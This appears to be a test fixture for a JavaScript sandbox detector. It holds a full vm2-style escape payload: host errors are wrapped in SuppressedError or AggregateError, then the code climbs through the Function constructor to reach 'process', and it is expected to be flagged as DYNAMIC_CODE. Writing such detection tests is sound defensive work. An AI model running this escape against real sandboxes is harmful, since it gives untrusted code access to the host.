// Attack: collect errors raised by the host into an aggregate (SuppressedError where the engine has
// explicit resource management, AggregateError otherwise) and climb from the inner host errors.
// Cites: the 2026 vm2 advisory on SuppressedError ("errors wrapped in a SuppressedError by `using`
// disposal are not sanitised, exposing host error objects").
// expect: DYNAMIC_CODE
// details: {"construct": "Function constructor"}
const hostFailure = () => { Buffer.alloc(-1); };
let aggregate;
if (typeof SuppressedError === 'function') {
  try { hostFailure(); } catch (a) { try { hostFailure(); } catch (b) { aggregate = new SuppressedError(a, b, 'x'); } }
  aggregate.error.constructor.constructor('return process')();
}
try {
  await Promise.any([Promise.resolve().then(hostFailure), Promise.resolve().then(hostFailure)]);
} catch (e) {
  aggregate = e;
}
for (const inner of aggregate.errors) Object.getPrototypeOf(inner).constructor.constructor('return process')();
return 'escaped';
